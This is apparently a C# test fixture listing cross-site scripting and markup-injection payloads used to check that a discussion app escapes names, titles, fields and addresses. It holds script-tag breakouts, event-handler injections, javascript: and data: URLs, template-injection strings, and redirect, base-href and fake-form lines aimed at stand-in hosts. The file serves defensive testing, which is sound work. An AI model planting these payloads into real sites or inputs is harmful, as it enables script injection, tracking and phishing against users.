namespace Discuss.Hostile.Tests.Running;

/// <summary>The project's own attacks on places that hold no Markdown: names, titles, notes, fields and addresses.</summary>
internal static class OwnMarkup
{
    public static readonly string[] All =
    [
        "\"><script>alert(1)</script>",
        "'><img src=x onerror=alert(1)>",
        "\" onmouseover=\"alert(1)",
        "' onfocus='alert(1)' autofocus='",
        "</title><script>alert(1)</script>",
        "</textarea><svg onload=alert(1)>",
        "</option></select><img src=x onerror=alert(1)>",
        "</script><script>alert(1)</script>",
        "--><svg/onload=alert(1)>",
        "]]><x xmlns=\"http://www.w3.org/1999/xhtml\" onclick=\"alert(1)\"/>",
        "javascript:alert(1)//https://example.org",
        "https://example.org/\"onclick=alert(1)//",
        "https://example.org/'><b>x",
        "data:text/html,<script>alert(1)</script>",
        "{{constructor.constructor('alert(1)')()}} ${alert(1)} @(1+1) <%= 7*7 %>",
        "&lt;img src=x onerror=alert(1)&gt;",
        "&#60;script&#62;alert(1)&#60;/script&#62;",
        "<img src=https://tracker.example/pixel.gif>",
        "<style>@import'https://tracker.example/x.css';</style>",
        "<link rel=stylesheet href=https://tracker.example/x.css>",
        "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<base href=https://evil.example/>",
        "<form action=https://evil.example><button>Sign in",
        "<isindex action=javascript:alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<input name=formToken value=evil>",
        "<dialog open><a href=https://evil.example>x",
        "😀\" onload=\"alert(1)",
        "\u202E\"><b>x",
    ];
}
